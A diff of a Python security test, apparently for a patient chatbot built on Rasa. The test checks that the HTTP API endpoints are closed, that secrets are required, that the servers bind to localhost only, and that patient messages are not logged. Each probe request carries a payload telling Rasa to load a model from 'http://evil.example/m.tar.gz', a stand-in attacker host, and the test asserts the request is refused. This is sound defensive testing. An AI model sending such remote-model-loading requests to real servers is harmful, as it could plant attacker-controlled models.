@@ -2,6 +2,7 @@
 (bot.run.processes.rasa_server_args / action_server_args): Rasa serves its REST channel but not its HTTP API (no
 tracker reads, no model loading from a URL), the action server refuses requests without the shared secret,
 both listen on 127.0.0.1 only, and what a patient wrote does not reach Rasa's log."""
+
 from __future__ import annotations
 
 import secrets
@@ -28,14 +29,21 @@ def test_make_runs_rasa_command_line_has_no_api_and_no_secret() -> None:
 def test_rasa_serves_the_rest_channel_but_not_its_api(servers) -> None:
     url = servers.rasa_url
     marker = f"zebra{secrets.token_hex(4)}"
-    reply = httpx.post(f"{url}/webhooks/rest/webhook", json={"sender": f"closed-{marker}", "message": f"hello {marker}"},
-                       timeout=60)
+    reply = httpx.post(
+        f"{url}/webhooks/rest/webhook", json={"sender": f"closed-{marker}", "message": f"hello {marker}"}, timeout=60
+    )
     assert reply.status_code == 200 and reply.json(), reply.text  # the gateway's way in works
-    for method, path in [("GET", f"/conversations/closed-{marker}/tracker"), ("PUT", "/model"),
-                         ("POST", f"/conversations/closed-{marker}/tracker/events"),
-                         ("POST", "/model/parse"), ("GET", "/status"), ("GET", "/domain")]:
-        response = httpx.request(method, f"{url}{path}", json={"model_file": "http://evil.example/m.tar.gz"},
-                                 timeout=30)
+    for method, path in [
+        ("GET", f"/conversations/closed-{marker}/tracker"),
+        ("PUT", "/model"),
+        ("POST", f"/conversations/closed-{marker}/tracker/events"),
+        ("POST", "/model/parse"),
+        ("GET", "/status"),
+        ("GET", "/domain"),
+    ]:
+        response = httpx.request(
+            method, f"{url}{path}", json={"model_file": "http://evil.example/m.tar.gz"}, timeout=30
+        )
         assert response.status_code in NOT_SERVED, (method, path, response.status_code, response.text[:200])
     assert marker not in servers.processes["rasa"].log_tail(2_000_000)  # LOG_LEVEL pinned: no message text
 
